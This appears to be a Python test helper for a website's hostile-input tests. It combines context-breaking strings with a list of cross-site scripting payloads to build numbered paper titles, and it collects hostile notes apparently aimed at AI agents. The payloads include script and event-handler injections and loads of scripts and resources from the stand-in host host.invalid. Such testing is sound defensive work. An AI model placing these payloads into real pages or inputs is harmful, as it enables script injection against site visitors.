"""Makes titles that try to run: each way out of a place with each way to run something there."""

from __future__ import annotations

import re
from itertools import product

from tests.hostile.cases import abstract, cases_in
from tests.site.project import dump

_TYPESET = re.compile(r"\$.*\$|\u00a0")
"""What is shown otherwise than it is written: formulas, and blanks that hold words together."""
OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</textarea></style></noscript>",
    "-->",
    "]]>",
    "`",
    "&quot;&#39;",
    "</p></a></h1>",
    "*/",
)
"""Ends of what a text may stand in."""
RUN = (
    "<script>alert({n})</script>",
    "<script src=//host.invalid/{n}.js></script>",
    "<img src=x{n} onerror=alert({n})>",
    "<img src=//host.invalid/{n}.png>",
    "<svg onload=alert({n})>",
    "<svg><script href=data:,alert({n}) />",
    "<iframe src=javascript:alert({n})>",
    "<iframe srcdoc=<script>alert({n})</script>>",
    "<details open ontoggle=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<a href=javascript:alert({n})>press {n}</a>",
    "<style>*{{background:url(//host.invalid/{n})}}</style>",
    "<link rel=stylesheet href=//host.invalid/{n}.css>",
    "<meta http-equiv=refresh content=0;url=//host.invalid/{n}>",
    "<form action=//host.invalid/{n}><button>press",
    "<object data=//host.invalid/{n}></object>",
    "onmouseover=alert({n}) style=position:fixed;inset:0 x=",
    "![x](//host.invalid/{n}.png)",
    "[x](javascript:alert({n}))",
    "{{{{constructor.constructor('alert({n})')()}}}}",
    ";alert({n});//",
    "javascript:alert({n})",
    "<math><mi xlink:href=data:x,<script>alert({n})</script>>",
    "<template><img src=x onerror=alert({n})></template>",
)


def made_payloads() -> list[str]:
    """Each way out with each way to run, numbered, so that no two are one paper."""
    pairs = enumerate(product(OUT, RUN), start=1)
    return [f"No {n} {out}{run.format(n=n)}" for n, (out, run) in pairs]


def written_payloads() -> list[str]:
    """The titles of the cases of injection, each with a number, lest two be one paper."""
    cases = [case for case in cases_in("dumps") if case.name.startswith("injection")]
    titles = [title for case in cases for title in case.titles]
    return [f"{title} of case {n}" for n, title in enumerate(titles) if not _TYPESET.search(title)]


def hostile_files(titles: list[str], on_a_page: int = 400) -> dict[str, str | bytes]:
    """Dumps of papers with these titles, and every hostile note as the note of one more paper."""
    files: dict[str, str | bytes] = {}
    for number, start in enumerate(range(0, len(titles), on_a_page)):
        some = titles[start : start + on_a_page]
        path = f"content/dumps/2025-01-{1 + number:02}-payloads.txt"
        files[path] = dump(*((title, abstract(title)) for title in some))
    noted = []
    for number, case in enumerate(cases_in("notes")):
        notes = {p: t for p, t in case.files.items() if p.endswith("agents-that-knock.md")}
        for note in notes.values():
            noted.append((f"Noted Paper {number}", f"We study the note numbered {number} in full."))
            files[f"content/notes/noted-paper-{number}.md"] = note
    files["content/dumps/2025-06-01-noted.txt"] = dump(*noted)
    for case in cases_in("notes"):
        if case.name.endswith("other files that people write"):
            files |= {p: t for p, t in case.files.items() if "dumps/" not in p}
    return files
